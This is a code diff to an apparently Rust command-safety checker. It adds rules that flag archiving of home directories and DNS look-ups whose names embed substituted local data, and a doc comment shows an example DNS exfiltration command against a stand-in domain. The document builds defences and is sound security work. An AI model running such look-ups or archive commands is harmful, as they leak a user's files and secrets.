@@ -29,6 +29,16 @@ pub(crate) fn reads_secrets(
     if is_listed(program, COPIERS) && args.iter().any(|word| is_private(files, &word.text)) {
         return true;
     }
+    let packs = matches!(program, "tar" | "gtar" | "bsdtar" | "zip" | "7z");
+    let is_of_home = |word: &Word| {
+        let word = word.text.as_str();
+        ["~/", "$HOME", "/home/", "/root/"]
+            .iter()
+            .any(|home| word.starts_with(home))
+    };
+    if packs && args.iter().any(is_of_home) {
+        return true;
+    }
     let reads = table.row(program).is_some_and(|row| row.reads_files);
     reads && args.iter().any(|word| is_credential(files, &word.text))
 }
@@ -62,6 +72,26 @@ pub(crate) fn is_foreign(table: &ProgramTable, program: &str) -> bool {
     let row = table.row(program);
     row.is_some_and(|row| row.prints == Some(Prints::Fetched) || row.takes == Some(Takes::Carrier))
         && program != "openssl"
+}
+
+/// Why a look-up is dangerous whose name is made of what the machine holds: `dig $(xxd -p f).x.example`.
+pub(crate) fn in_name(program: &str, args: &[Word]) -> Option<String> {
+    let looks_up = matches!(
+        program,
+        "dig" | "nslookup" | "host" | "drill" | "kdig" | "getent"
+    );
+    let is_made = |word: &Word| {
+        let raw = word.raw.as_str();
+        let substitutes = raw.contains("$(") || raw.contains('`');
+        let readers = [
+            "xxd", "base64", "base32", "hexdump", "od ", "cat ", "whoami", "hostname", "uname",
+            "id ", "id)", "<", "head ", "env", "gzip", "md5sum", "sed ",
+        ];
+        let tail = word.text.rsplit(UNKNOWN).next().unwrap_or_default();
+        substitutes && tail.starts_with('.') && readers.iter().any(|reader| raw.contains(reader))
+    };
+    (looks_up && args.iter().any(is_made))
+        .then(|| "it sends what it reads in the name that it looks up".to_owned())
 }
 
 /// Whether a command sends what it reads, or what its words hold.
